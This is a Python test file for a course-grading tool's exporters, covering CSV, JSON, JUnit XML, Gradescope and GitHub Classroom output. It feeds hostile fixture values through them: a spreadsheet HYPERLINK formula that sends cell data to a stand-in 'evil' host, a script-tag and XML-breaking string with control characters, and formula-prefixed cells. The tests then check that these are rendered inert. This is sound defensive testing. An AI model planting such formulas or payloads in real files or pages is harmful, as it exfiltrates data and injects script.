"""What other programs read: each format through a reader of its own, with hostile content."""

import base64
import csv
import io
import json
import re
import xml.etree.ElementTree as ET

import pytest
from junitparser import Error, Failure, JUnitXml

from dojo.report.html import verdict
from dojo.school.class_text import class_changes, class_summary
from dojo.school.formats import inert, write_csv, write_json, write_junit
from dojo.school.gradescope import gradescope
from dojo.school.single import as_github
from dojo.school.submission import MISSING, Submission
from dojo.school.summary import Summary
from tests.project.handing_in import COURSE, result, row, shown, submission

KATAS = [kata.id for kata in COURSE.katas]
FORMULA = '=HYPERLINK("http://evil/"&A1)'
EVIL = "</testcase>\x00\x1b[31m\ufffe\"'& ]]> <script>alert(1)</script> ::set-output::"
ROWS = [
    row("ada", ("passed", "passed")),
    row("@bob", ("failed", "broken"), diagnosis=FORMULA, hint=EVIL, message=EVIL),
    row("ann;=1+1", of=submission("ann;=1+1", name="Müller\t-1", email="+49", notes=("a\n@x",))),
    row("zoe", of=Submission("zoe", "", problem=MISSING)),
]


@pytest.fixture
def table(tmp_path):
    """Return the lines of the CSV, as a spreadsheet reads them, and its bytes."""
    path = tmp_path / "class.csv"
    write_csv(iter(ROWS), path)
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file)), path.read_bytes()


def test_the_table_has_a_line_for_each_submission(table):
    """Numbers stay numbers, and every kata has its points and its status."""
    lines, content = table
    assert content.startswith(b"\xef\xbb\xbfid,name,email,score,of,status,k01_sigmoid points,")
    assert [line["status"] for line in lines] == ["partly", "none", "partly", "missing"]
    assert float(lines[0]["k01_sigmoid points"]) == float(lines[0]["score"]) == 14.29
    assert lines[0]["k02_forward status"] == "not_submitted"
    assert lines[3]["problem"] == MISSING
    assert lines[0]["isolation"] == "strict"
    assert float(lines[0]["seconds"]) == 0.5


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_the_table_is_a_formula(table, delimiter):
    """Not in the first place, and not where a spreadsheet splits lines at another delimiter."""
    text = table[1].decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in line]
    assert any("HYPERLINK" in cell for cell in cells)
    for cell in cells:
        assert not re.match(r'[\s"]*[=+\-@\t\r]', cell), cell


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("-1", "'-1"),
        (-1.5, -1.5),
        ("  @SUM(1)", "  '@SUM(1)"),
        ("\t=1", "'\t'=1"),
        ('a;"=1+1;b', "a;\"'=1+1;b"),
        ("a-b@c", "a-b@c"),
        ("\uff1d1", "'\uff1d1"),
        ("x\x00y", "x\N{REPLACEMENT CHARACTER}y"),
        ("", ""),
    ],
)
def test_a_cell_is_made_harmless_and_stays_readable(cell, safe):
    """Only what a spreadsheet could compute gets an apostrophe."""
    assert inert(cell) == safe


def test_the_json_is_one_object(tmp_path):
    """Every submission has its points, and each kata all there is to say of it."""
    write_json(iter(ROWS), tmp_path / "class.json", "backprop-dojo")
    told = json.loads((tmp_path / "class.json").read_text(encoding="utf-8"))

    assert (told["schema"], told["course"], len(told["submissions"])) == (1, "backprop-dojo", 4)
    ada, bob, _ann, zoe = told["submissions"]
    assert (ada["score"], ada["isolation"], ada["engine"]) == (14.29, "strict", "0.1+abc")
    assert [kata["id"] for kata in ada["katas"]] == KATAS
    assert ada["katas"][0]["tests"][0]["fact"] == "Fact 1."
    assert bob["katas"][0]["mistakes"] == [FORMULA]
    assert bob["katas"][0]["tests"][0]["message"] == EVIL
    assert (zoe["problem"], zoe["katas"][0]["status"]) == (MISSING, "not_submitted")


def test_a_junit_reader_finds_every_test(tmp_path):
    """A suite for each student and kata; what was not handed in failed, a problem is an error."""
    path = tmp_path / "class.xml"
    write_junit(iter(ROWS), path)
    suites = {suite.name: suite for suite in JUnitXml.fromfile(str(path))}

    assert len(suites) == 3 * 7 + 1
    assert len(ET.parse(path).getroot()) == len(suites)  # noqa: S314  this file is our own
    ada = suites["ada/k01_sigmoid"]
    assert (ada.tests, ada.failures, ada.errors) == (2, 0, 0)
    failed, broken = [case.result[0] for case in suites["@bob/k01_sigmoid"]]
    assert (type(failed), type(broken)) == (Failure, Error)
    assert "<script>alert(1)</script>" in failed.text
    assert "\x1b" not in failed.text
    assert next(iter(suites["ada/k02_forward"])).result[0].type == "not_submitted"
    assert next(iter(suites["zoe/submission"])).result[0].message == MISSING


VISIBILITY = {"enum": ["hidden", "after_due_date", "after_published", "visible"]}
FORMAT = {"enum": ["text", "html", "simple_format", "md", "ansi"]}
NUMBER, TEXT = {"type": "number"}, {"type": "string"}
# Written down from https://gradescope-autograders.readthedocs.io/en/latest/specs/
GRADESCOPE = {
    "type": "object",
    "additionalProperties": False,
    "required": ["score", "tests"],
    "properties": {
        "score": NUMBER,
        "execution_time": NUMBER,
        "output": TEXT,
        "output_format": FORMAT,
        "test_output_format": FORMAT,
        "test_name_format": FORMAT,
        "visibility": VISIBILITY,
        "stdout_visibility": VISIBILITY,
        "extra_data": {"type": "object"},
        "leaderboard": {"type": "array"},
        "tests": {
            "type": "array",
            "items": {
                "type": "object",
                "additionalProperties": False,
                "required": ["score", "max_score", "name"],
                "properties": {
                    "score": NUMBER,
                    "max_score": NUMBER,
                    "status": {"enum": ["passed", "failed"]},
                    "name": TEXT,
                    "name_format": FORMAT,
                    "number": TEXT,
                    "output": TEXT,
                    "output_format": FORMAT,
                    "tags": {"type": "array", "items": TEXT},
                    "visibility": VISIBILITY,
                    "extra_data": {"type": "object"},
                },
            },
        },
    },
}


@pytest.mark.parametrize("one", ROWS, ids=lambda one: one.student)
def test_gradescope_gets_only_fields_it_documents(one):
    """The tests' points add up to the score, and their maxima to the whole."""
    import jsonschema  # noqa: PLC0415  it takes seconds, and every collection would wait for it

    told = gradescope(one)
    jsonschema.validate(json.loads(json.dumps(told)), GRADESCOPE)
    assert sum(test["score"] for test in told["tests"]) == pytest.approx(one.score, abs=0.01)
    assert sum(test["max_score"] for test in told["tests"]) == pytest.approx(100, abs=0.01)
    assert {told["output_format"], told["test_output_format"], told["test_name_format"]} == {"text"}
    assert "isolation level: strict" in told["output"]


def test_gradescope_shows_the_mistake_by_name():
    """A failed test has its message, the mistake and the hint; the first line of all says why."""
    told = gradescope(row("bob", ("failed",), diagnosis="took the slope", hint="No."))
    assert told["tests"][0]["output"] == "Called.\nReturned 1.\nMistake: took the slope.\nHint: No."
    assert gradescope(ROWS[3])["output"].startswith(MISSING)


def test_github_classroom_gets_what_its_reporter_adds_up():
    """One line of base64, whatever is in it; a test for each kata, with its points."""
    line = as_github(ROWS[1])
    told = json.loads(base64.b64decode(line, validate=True))
    assert "\n" not in line
    assert (told["version"], told["status"], told["max_score"]) == (1, "fail", 100.0)
    assert [test["name"] for test in told["tests"]] == KATAS
    points = json.loads(base64.b64decode(as_github(ROWS[0])))["tests"]
    assert sum(test["score"] for test in points) == 14.29
    assert json.loads(base64.b64decode(as_github(ROWS[3])))["status"] == "error"


def test_the_summary_reads_as_sentences_and_lists():
    """Counts, the middle, each kata, the mistakes and the hard tests."""
    text = shown(class_summary(Summary(ROWS)))
    assert "4 students: 2 some points, 1 no points, 1 nothing submitted." in text
    assert "of 100 points." in text
    assert f"    1  {FORMULA}" in text
    assert "    1 of 2     k01  Fact 2." in text
    assert re.search(r"k02_forward +0% +4 not submitted", text)


def test_a_change_is_told_with_its_reason_and_its_tests():
    """One line for the student, one for each test; no change is a sentence, too."""
    before = row(of=submission("ada", name="Ada L."), outcomes=("failed", "passed"))
    after = row(of=submission("ada", b"new", name="Ada L."), outcomes=3 * ("passed",))
    assert shown(class_changes([(before, after)])) == (
        "ada (Ada L.): 7.14 → 14.29, because the submission has changed.\n"
        "    k01  test_1: failed → passed\n"
        "    k01  test_3: no such test → passed\n"
    )
    assert "has changed no score" in shown(class_changes([(before, before)]))


def test_a_file_that_cannot_be_used_is_told_once_in_a_notebook():
    """Not one row for each test: the reason, and where it is."""
    told = verdict(result("broken", "broken", "broken", message="k.py:2: It is torn."))

    assert told.count("It is torn.") == 1
    assert "Fact 1." not in told
    assert "Fact 1." in verdict(result("passed", "broken"))
